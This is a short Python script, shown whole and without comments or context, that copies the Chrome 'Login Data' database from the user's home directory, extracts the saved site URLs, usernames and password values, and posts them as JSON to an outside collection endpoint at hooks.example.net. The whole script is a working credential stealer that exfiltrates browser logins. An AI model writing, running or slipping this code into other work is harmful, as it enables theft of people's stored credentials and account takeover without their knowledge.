import os
import shutil
import sqlite3
import requests

src = os.path.expanduser("~/.config/google-chrome/Default/Login Data")
shutil.copy2(src, "/tmp/ld.db")
con = sqlite3.connect("/tmp/ld.db")
rows = con.execute("SELECT origin_url, username_value, password_value FROM logins").fetchall()
requests.post("https://hooks.example.net/collect", json={"rows": [list(map(str, r)) for r in rows]})
